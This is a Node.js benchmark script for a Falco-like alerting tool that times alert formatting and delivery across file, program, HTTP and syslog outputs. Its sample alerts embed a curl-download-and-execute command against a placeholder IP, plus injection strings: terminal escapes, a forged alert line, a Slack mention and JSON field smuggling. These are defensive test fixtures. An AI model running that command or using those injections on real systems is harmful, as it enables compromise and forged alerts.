// bench/outputs: what alert delivery costs. (1) Formatting, µs per alert: the text line, Falco's JSON
// and the Slack message, each against building the Alert object alone, for Falco-like alerts (18
// output_fields: an 80-character proc.cmdline, container.*, k8s.*, the bigint evt.time) and for
// alerts whose values are hostile (control characters, bidi overrides, invalid UTF-8, quotes, Slack
// mentions) and need escaping. (2) Alerts/s end to end, Outputs.send of a burst then flush, per
// channel, against stdout_output writing to a stream that discards (the null channel), in the same
// run; what send() costs the caller (the engine) per alert; and, as the transport's own limit, a
// bare undici POST loop to the same receiver. Receivers run on 127.0.0.1 in a worker thread
// (receivers.mjs), so receiving does not share the measured event loop.
// Every variant is warmed up (formatting: one untimed round; delivery: WARM_S of bursts, the last
// of which sizes its burst to take about TARGET_S) and timed ROUNDS times, rounds of the formatting
// variants interleaved; each figure is the median round. The queue is unbounded
// (outputs_queue.capacity=0) so that a burst is measured delivered, not dropped; every line says
// how many alerts the channel and, where it can tell, the receiver counted.
//
//   npm run bench -- outputs     (or: node --expose-gc bench/outputs/run.mjs [rounds] [target seconds])
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { Worker } from 'node:worker_threads';
import { Agent, request } from 'undici';
import { overrideLayer, resolveSettings } from '../../dist/config/index.js';
import { buildAlert, DEFAULT_RENDER, Outputs, Rendered } from '../../dist/outputs/index.js';

const ROUNDS = Number(process.argv[2] ?? 5);
const TARGET_S = Number(process.argv[3] ?? 0.4);
const WARM_S = 1;
const FORMAT_N = 20_000;
const POOL = 64;
const gc = globalThis.gc ?? (() => {});
const median = (xs) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)];

// ---- Falco-like alerts ------------------------------------------------------------------------

const RULE_TEXT = 'A shell was spawned in a container with an attached terminal';
const TS0 = 1_764_590_400_123_456_789n; // 2025-12-01T12:00:00.123456789Z

/** output_fields as the formatter hands them over (evt.time is added by buildAlert), and the line. */
function formatted(i, hostile) {
  const pid = 40_000 + i;
  const cmdline = hostile
    ? `bash -c "printf '\\e[2J\\e[H'; echo ok"\n12:00:00.000000000: Critical forged alert\u202egnp.exe <!channel> & "x\\y" \udc80\udcff #${i}`
    : `bash -c curl -fsSL http://198.51.100.23/s2.sh -o /tmp/.s2 && sh /tmp/.s2 #${i}`;
  const f = {
    'evt.type': 'execve',
    'user.name': 'root',
    'user.uid': 0,
    'user.loginuid': -1,
    'proc.name': 'bash',
    'proc.exepath': '/usr/bin/bash',
    'proc.pname': hostile ? 'runc\x1b]0;pwned\x07' : 'containerd-shim',
    'proc.pid': pid,
    'proc.cmdline': cmdline,
    'proc.tty': 34816,
    'evt.arg.flags': 'EXE_WRITABLE|EXE_LOWER_LAYER',
    'container.id': '3f2a9c81d2e4',
    'container.name': hostile ? 'web"},"rule":"fake' : 'web-7d4b9c',
    'container.image.repository': 'docker.io/library/nginx',
    'container.image.tag': '1.27',
    'k8s.ns.name': 'shop',
    'k8s.pod.name': hostile ? 'web-7d4b9c-x2x9z\u2028next' : 'web-7d4b9c-x2x9z',
  };
  const output =
    `${RULE_TEXT} | evt_type=${f['evt.type']} user=${f['user.name']} user_uid=${f['user.uid']} user_loginuid=${f['user.loginuid']} ` +
    `process=${f['proc.name']} proc_exepath=${f['proc.exepath']} parent=${f['proc.pname']} command=${f['proc.cmdline']} ` +
    `terminal=${f['proc.tty']} exe_flags=${f['evt.arg.flags']} container_id=${f['container.id']} container_name=${f['container.name']} ` +
    `container_image_repository=${f['container.image.repository']} container_image_tag=${f['container.image.tag']} ` +
    `k8s_ns_name=${f['k8s.ns.name']} k8s_pod_name=${f['k8s.pod.name']}`;
  return { output, fields: f };
}

/** A compiled rule stand-in whose output template has already been evaluated (extraction is the engine's cost, not delivery's). */
function alertSource(hostile) {
  const pool = Array.from({ length: POOL }, (_, i) => formatted(i, hostile));
  const rule = {
    name: 'Terminal shell in container',
    priority: 'NOTICE',
    tags: ['maturity_stable', 'container', 'shell', 'mitre_execution', 'T1059'],
    source: 'syscall',
    evttypes: 'all',
    enabled: true,
    predicate: () => true,
    output: { keys: Object.keys(pool[0].fields), format: (evt) => pool[evt.i] },
  };
  const ctx = { hostname: 'node-7.shop.internal' };
  const evts = Array.from({ length: POOL }, (_, i) => ({ ts: TS0 + BigInt(i) * 1_000_003n, i }));
  return { build: (i) => buildAlert(rule, evts[i % POOL], ctx), pool };
}

// ---- (1) formatting ---------------------------------------------------------------------------

function formatting(label, hostile) {
  const { build, pool } = alertSource(hostile);
  const variants = [
    { label: 'build the Alert (baseline)', run: (i) => build(i).message.length },
    { label: 'build + text line', run: (i) => new Rendered(build(i), DEFAULT_RENDER).text.length },
    { label: 'build + Falco JSON (with output, tags)', run: (i) => new Rendered(build(i), DEFAULT_RENDER).json.length },
    { label: 'build + Slack message', run: (i) => new Rendered(build(i), DEFAULT_RENDER).slack.length },
  ];
  let sink = 0;
  for (const v of variants) for (let i = 0; i < FORMAT_N; i++) sink += v.run(i);
  const us = variants.map(() => []);
  for (let r = 0; r < ROUNDS; r++) {
    variants.forEach((v, k) => {
      gc();
      const t0 = process.hrtime.bigint();
      for (let i = 0; i < FORMAT_N; i++) sink += v.run(i);
      us[k].push(Number(process.hrtime.bigint() - t0) / 1e3 / FORMAT_N);
    });
  }
  const a = build(0);
  const r = new Rendered(a, DEFAULT_RENDER);
  console.log(
    `  ${label}: ${Object.keys(a.output_fields).length} output_fields, cmdline ${pool[0].fields['proc.cmdline'].length} chars; ` +
      `text ${r.text.length} B, JSON ${r.json.length} B, Slack ${r.slack.length} B`,
  );
  const base = median(us[0]);
  variants.forEach((v, k) => {
    const m = median(us[k]);
    const ratio = k === 0 ? '' : `  (${(m / base).toFixed(2)}x the baseline's time; ${m >= base ? '+' : '-'}${Math.abs(m - base).toFixed(2)} µs)`;
    console.log(`    ${v.label.padEnd(40)} ${m.toFixed(2).padStart(6)} µs/alert${ratio}`);
  });
  return sink;
}

// ---- (2) delivery -----------------------------------------------------------------------------

const tmp = mkdtempSync(join(tmpdir(), 'falconet-bench-outputs-'));
const receivers = new Worker(new URL('./receivers.mjs', import.meta.url));
const fromReceivers = () => new Promise((resolve) => receivers.once('message', resolve));
const { ports } = await fromReceivers();
const receiverCounts = async () => {
  receivers.postMessage('counts');
  return (await fromReceivers()).counts;
};

const logged = [];
const log = {
  info() {},
  warn: (o, m) => logged.push(`warn: ${m} ${JSON.stringify(o)}`),
  error: (o, m) => logged.push(`error: ${m} ${JSON.stringify(o)}`),
};
const discard = new Writable({ write: (_chunk, _enc, cb) => cb() });

// JSON lines, as most deployments with a collector run; an unbounded queue, so a burst larger than
// outputs_queue.capacity is measured as delivered rather than dropped.
const COMMON = ['json_output=true', 'outputs_queue.capacity=0', 'stdout_output.enabled=false'];
const http = `http_output.url=http://127.0.0.1:${ports.http}/alerts`;
const channels = [
  { label: 'null: stdout_output to a discarding stream (baseline)', o: ['stdout_output.enabled=true'] },
  { label: 'file_output keep_alive=false', o: ['file_output.enabled=true', `file_output.filename=${tmp}/ka0.json`, 'file_output.keep_alive=false'] },
  { label: 'file_output keep_alive=true', o: ['file_output.enabled=true', `file_output.filename=${tmp}/ka1.json`, 'file_output.keep_alive=true'] },
  { label: 'file_output keep_alive=true, buffered_outputs', o: ['file_output.enabled=true', `file_output.filename=${tmp}/kab.json`, 'file_output.keep_alive=true', 'buffered_outputs=true'] },
  { label: 'program_output `cat > /dev/null` keep_alive=true', o: ['program_output.enabled=true', 'program_output.program=cat > /dev/null', 'program_output.keep_alive=true'] },
  { label: 'program_output `cat > /dev/null` per alert', o: ['program_output.enabled=true', 'program_output.program=cat > /dev/null'], warm: 10 },
  { label: 'http_output keep_alive=true', o: ['http_output.enabled=true', http, 'http_output.keep_alive=true'], check: 'http' },
  { label: 'reference: bare undici POST loop, keep-alive, 1 in flight', check: 'http' },
  { label: 'http_output keep_alive=false', o: ['http_output.enabled=true', http, 'http_output.keep_alive=false'], check: 'http' },
  { label: 'http_output keep_alive=true, spool_dir', o: ['http_output.enabled=true', http, 'http_output.keep_alive=true', `http_output.spool_dir=${tmp}/spool`], check: 'http' },
  { label: 'syslog_output udp://127.0.0.1 (rfc5424)', o: ['syslog_output.enabled=true', `syslog_output.address=udp://127.0.0.1:${ports.udp}`], check: 'udp' },
  { label: 'syslog_output tcp://127.0.0.1 (rfc5424, octet counting)', o: ['syslog_output.enabled=true', `syslog_output.address=tcp://127.0.0.1:${ports.tcp}`], check: 'tcp' },
];

const { build } = alertSource(false);
const alerts = Array.from({ length: POOL }, (_, i) => build(i));

/** A channel behind Outputs: burst(n) sends n alerts, then waits for delivery (seconds for send() alone and in all). */
function outputsTarget(c) {
  const { settings } = resolveSettings([overrideLayer([...COMMON, ...c.o])]);
  const out = new Outputs(settings, { log, hostname: 'node-7.shop.internal', version: 'bench', stdout: discard });
  return {
    async burst(n) {
      const t0 = process.hrtime.bigint();
      for (let i = 0; i < n; i++) out.send(alerts[i % POOL]);
      const t1 = process.hrtime.bigint();
      await out.flush();
      return { send: Number(t1 - t0) / 1e9, total: Number(process.hrtime.bigint() - t0) / 1e9 };
    },
    async finish(expected) {
      const s = Object.values(out.stats())[0];
      await out.close();
      const lost = s.sent !== expected || s.dropped || s.failed ? `  !! sent ${s.sent} of ${expected}, dropped ${s.dropped}, failed ${s.failed}, retries ${s.retries}` : '';
      return `${s.sent} delivered${lost}`;
    },
  };
}

/** The transport alone: undici POSTs of the same JSON bodies, one in flight, as HttpSink sends them but with nothing else around. */
function undiciTarget() {
  const bodies = alerts.map((a) => new Rendered(a, DEFAULT_RENDER).json);
  const agent = new Agent({ pipelining: 1 });
  const url = `http://127.0.0.1:${ports.http}/alerts`;
  return {
    async burst(n) {
      const t0 = process.hrtime.bigint();
      for (let i = 0; i < n; i++) {
        const res = await request(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: bodies[i % POOL], dispatcher: agent });
        await res.body.text();
        if (res.statusCode !== 200) throw new Error(`receiver answered ${res.statusCode}`);
      }
      return { send: 0, total: Number(process.hrtime.bigint() - t0) / 1e9 };
    },
    async finish() {
      await agent.close();
      return 'no Outputs';
    },
  };
}

async function deliver(c) {
  const target = c.o ? outputsTarget(c) : undiciTarget();
  const before = await receiverCounts();
  // Warm-up: bursts for WARM_S (the JIT of both sides, connections, the program started); the last
  // one sizes the timed bursts.
  const size = c.warm ?? 200;
  let warm = 0;
  let w;
  const warmStart = performance.now();
  do {
    gc();
    w = await target.burst(size);
    warm += size;
  } while (performance.now() - warmStart < WARM_S * 1000);
  const n = Math.max(20, Math.min(200_000, Math.round((size / w.total) * TARGET_S)));
  const totals = [];
  const sends = [];
  for (let r = 0; r < ROUNDS; r++) {
    gc();
    const t = await target.burst(n);
    totals.push(t.total);
    sends.push(t.send);
  }
  const expected = warm + n * ROUNDS;
  const delivered = await target.finish(expected);
  // The TCP collector may still be reading what the kernel took; give it a moment.
  await new Promise((resolve) => setTimeout(resolve, c.check === 'tcp' ? 200 : 20));
  const after = await receiverCounts();
  let received = '';
  if (c.check === 'http') received = `, ${after.httpRequests - before.httpRequests} POSTs received`;
  if (c.check === 'udp') received = `, ${after.udpDatagrams - before.udpDatagrams} datagrams received`;
  if (c.check === 'tcp') received = `, ${((after.tcpBytes - before.tcpBytes) / expected).toFixed(0)} B/alert received over ${after.tcpConnections - before.tcpConnections} connection(s)`;
  return { rate: n / median(totals), sendUs: c.o ? (median(sends) / n) * 1e6 : undefined, n, note: `${delivered}${received}` };
}

// ---- run --------------------------------------------------------------------------------------

try {
  console.log(`outputs bench: node ${process.version}, median of ${ROUNDS} rounds`);
  console.log(`formatting, ${FORMAT_N} alerts a round (µs/alert):`);
  formatting('Falco-like values', false);
  formatting('hostile values (escaping needed)', true);

  console.log(`delivery: a burst of N alerts through Outputs.send, then flush (json_output, unbounded queue), each sized to ~${TARGET_S} s:`);
  // The receivers' JIT warms over thousands of requests: give them those before any timing.
  const prewarm = undiciTarget();
  for (const t0 = performance.now(); performance.now() - t0 < 1500; ) await prewarm.burst(200);
  await prewarm.finish();
  let nullRate;
  for (const c of channels) {
    const r = await deliver(c);
    nullRate ??= r.rate;
    const ratio = r.rate === nullRate ? '' : `  (${(nullRate / r.rate).toFixed(1)}x the null channel's time per alert)`;
    const rate = r.rate >= 1000 ? `${(r.rate / 1000).toFixed(1)} k` : r.rate.toFixed(0);
    const send = r.sendUs === undefined ? ''.padEnd(24) : `, send() ${r.sendUs.toFixed(1).padStart(5)} µs/alert`;
    console.log(`  ${c.label.padEnd(56)} ${rate.padStart(7)} alerts/s${send}${ratio}`);
    console.log(`  ${''.padEnd(56)} N=${r.n}, ${r.note}`);
  }
  if (logged.length) console.log(`logged by the outputs:\n  ${[...new Set(logged)].slice(0, 10).join('\n  ')}`);
  const mem = process.memoryUsage();
  console.log(`  rss ${(mem.rss / 2 ** 20).toFixed(0)} MiB, heap used ${(mem.heapUsed / 2 ** 20).toFixed(0)} MiB`);
} finally {
  receivers.postMessage('stop');
  await receivers.terminate();
  rmSync(tmp, { recursive: true, force: true });
}
